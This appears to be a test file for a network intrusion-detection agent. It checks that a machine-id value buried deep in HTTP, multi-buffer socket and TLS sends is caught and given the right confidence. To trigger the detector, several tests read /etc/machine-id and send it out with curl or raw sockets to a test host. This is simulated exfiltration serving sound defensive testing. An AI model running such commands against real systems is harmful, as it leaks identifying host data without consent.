# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""Long sends: a value anywhere in the first 64 KiB of one send is found, not only in its first
sample (1 KiB by default): plain HTTP bodies, several buffers, TLS plaintext, and the socket-layer
path of a holder whose syscall hooks are away."""
import os
import subprocess
import tempfile

from idslib import PYTHON, Agent, POLICY_MACHINE_ID, expect, expect_eq, machine_id, run_py


def json_body(offset, total):
    """A JSON document of about `total` bytes with the machine-id at byte `offset`."""
    head = '{"events":"' + "e" * (offset - len('{"events":"') - len('","device":"')) + '","device":"'
    body = head + machine_id() + '","pad":"' + "p" * max(0, total - offset - 64) + '"}'
    return body


def body_file(offset, total):
    f = tempfile.NamedTemporaryFile(prefix="idsentry-body-", suffix=".json", delete=False, mode="w")
    f.write(json_body(offset, total))
    f.close()
    return f.name


def curl_body_with_the_value_6_kib_in(url, total):
    """The alert for curl posting a JSON body with the machine-id 6 KiB in. The shell reads the
    identifier and becomes curl, which reads only the body file."""
    path = body_file(6 * 1024, total)
    try:
        with Agent(policy_text=POLICY_MACHINE_ID) as agent:
            r = subprocess.run(["sh", "-c", "read id </etc/machine-id; exec curl -sk -o /dev/null "
                                "--max-time 5 --data-binary @%s %s" % (path, url)],
                               capture_output=True, timeout=20)
            expect_eq(0, r.returncode, "curl's exit status")
            return agent.wait_alert(process__comm="curl")
    finally:
        os.unlink(path)


def test_value_6_kib_into_an_http_body_is_confirmed(host):
    a = curl_body_with_the_value_6_kib_in("http://%s:8080/ingest" % host.addr, 20 * 1024)
    expect_eq("confirmed", a["confidence"], "confidence")
    expect(a["evidence"]["offset"] >= 6 * 1024, "the offset past the first sample, got %r" % a["evidence"])


def test_value_deep_in_several_buffers_and_near_64_kib_is_confirmed(host):
    code = """
import socket, sys
mid = open("/etc/machine-id").read().strip().encode()
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
# sendmsg with three buffers: the value in the third, 40 KiB in
parts = [b"a" * 30000, b"b" * 10000, b"c" * 100 + mid + b"c" * 100]
s.sendmsg(parts)
s.close()
# another destination: repeats to one destination are folded into the first alert
s = socket.create_connection((sys.argv[1], 8080), timeout=5)
# one send of 64 KiB with the value at its very end
s.sendall(b"x" * (65536 - 40) + mid + b"\\n" * 8)
s.close()
"""
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        pid, _ = run_py(code, host.addr)
        agent.wait_alert(process__pid=pid)
        agent.wait_for(lambda r: len(agent.alerts(process__pid=pid)) >= 2, what="an alert per send")
        alerts = agent.alerts(process__pid=pid)
    by_port = {a["destination"]["port"]: a for a in alerts}
    expect_eq({9000: "confirmed", 8080: "confirmed"},
              {p: a["confidence"] for p, a in by_port.items()}, "confidence per destination")
    expect_eq({9000: 40100, 8080: 65536 - 40},
              {p: a["evidence"]["offset"] for p, a in by_port.items()}, "offsets")


def test_value_past_the_eighth_buffer_is_confirmed(host):
    """A sendmsg of many small buffers (as a corked writev of an HTTP client makes), and one whose
    first buffers are empty: the first sample reaches 8 buffers, the rest is read as parts."""
    code = """
import socket, sys
mid = open("/etc/machine-id").read().strip().encode()
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
# sixteen buffers of 100 bytes, the value in the twelfth, 1,120 bytes in
parts = [b"h" * 100 for _ in range(16)]
parts[11] = b"k" * 20 + mid + b"k" * (80 - len(mid))
s.sendmsg(parts)
s.close()
# another destination: eight empty buffers, then the value
s = socket.create_connection((sys.argv[1], 8080), timeout=5)
s.sendmsg([b""] * 8 + [b"x" * 10 + mid + b"\\n"])
s.close()
"""
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        pid, _ = run_py(code, host.addr)
        agent.wait_for(lambda r: len(agent.alerts(process__pid=pid)) >= 2, what="an alert per send")
        alerts = agent.alerts(process__pid=pid)
    by_port = {a["destination"]["port"]: a for a in alerts}
    expect_eq({9000: "confirmed", 8080: "confirmed"},
              {p: a["confidence"] for p, a in by_port.items()}, "confidence per destination")
    expect_eq({9000: 1120, 8080: 10},
              {p: a["evidence"]["offset"] for p, a in by_port.items()}, "offsets")


def test_value_past_64_kib_is_only_suspected(host):
    code = """
import socket, sys
mid = open("/etc/machine-id").read().strip().encode()
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(b"x" * 70000 + mid)
s.close()
"""
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        pid, _ = run_py(code, host.addr)
        a = agent.wait_alert(process__pid=pid)
    expect_eq("suspected", a["confidence"], "confidence (the value is past what is sampled)")


def test_value_6_kib_into_a_tls_body_is_confirmed(host):
    a = curl_body_with_the_value_6_kib_in("https://%s:8443/ingest" % host.addr, 16 * 1024)
    expect_eq("confirmed", a["confidence"], "confidence")
    expect_eq("tls", a["evidence"]["channel"], "evidence.channel")
